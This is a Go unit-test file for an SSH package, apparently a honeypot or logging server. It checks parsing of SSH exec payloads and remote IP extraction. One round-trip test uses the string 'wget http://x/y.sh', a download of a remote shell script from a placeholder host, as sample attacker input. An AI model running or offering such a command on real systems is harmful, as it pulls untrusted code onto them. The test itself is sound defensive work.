package ssh

import (
	"net"
	"testing"

	"github.com/stretchr/testify/assert"
	gossh "golang.org/x/crypto/ssh"
)

func TestParseExecPayload(t *testing.T) {
	tests := []struct {
		name    string
		payload []byte
		want    string
	}{
		{"empty", nil, ""},
		{"too short", []byte{0, 0, 1}, ""},
		{"valid", append([]byte{0, 0, 0, 4}, []byte("sftp")...), "sftp"},
		{"command", append([]byte{0, 0, 0, 8}, []byte("uname -a")...), "uname -a"},
		{"length beyond payload", append([]byte{0, 0, 0, 99}, []byte("ls")...), "ls"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, parseExecPayload(tt.payload))
		})
	}
}

func TestParseExecPayloadRoundTrip(t *testing.T) {
	payload := gossh.Marshal(struct{ Command string }{"wget http://x/y.sh"})
	assert.Equal(t, "wget http://x/y.sh", parseExecPayload(payload))
}

func TestRemoteIP(t *testing.T) {
	tests := []struct {
		addr net.Addr
		want string
	}{
		{&net.TCPAddr{IP: net.IPv4(203, 0, 113, 7), Port: 54321}, "203.0.113.7"},
		{&net.TCPAddr{IP: net.ParseIP("2001:db8::1"), Port: 22}, "2001:db8::1"},
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, remoteIP(tt.addr))
	}
}
